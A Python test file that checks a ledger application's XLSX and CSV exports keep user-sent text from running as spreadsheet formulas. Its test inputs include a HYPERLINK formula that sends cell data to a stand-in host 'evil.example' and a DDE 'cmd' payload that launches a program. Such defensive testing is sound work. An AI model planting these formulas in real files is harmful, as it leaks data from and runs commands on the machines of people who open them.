"""A text that somebody sent is never worked out by the spreadsheet that somebody else opens."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from api.answers import csv_answer
from ledger.reports.workbook import OPTIONS

SOURCES = [path for room in ("ledger", "api") for path in (Path(__file__).parents[2] / room).rglob("*.py")]
SENT = [
    '=HYPERLINK("https://evil.example?"&A1)',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", SENT)
def test_in_a_spreadsheet_it_stays_text(text):
    body = io.BytesIO()
    with xlsxwriter.Workbook(body, OPTIONS) as book:
        book.add_worksheet().write(0, 0, text)
    cell = openpyxl.load_workbook(body).active["A1"]
    assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert cell.value.replace("_x000D_", "\r") == text


@pytest.mark.parametrize("text", SENT)
def test_in_comma_separated_text_it_is_guarded(text):
    told = bytes(csv_answer(["title"], [{"title": text}], {}).body).decode()
    _, row = csv.reader(io.StringIO(told, newline=""))
    assert row == [f"'{text}"]


def test_every_spreadsheet_is_written_so():
    opened = [(path.name, call) for path in SOURCES for call in re.findall(r"Workbook\([^)]*\)", path.read_text())]
    assert opened, "there is one"
    assert [(name, call) for name, call in opened if "OPTIONS" not in call] == []
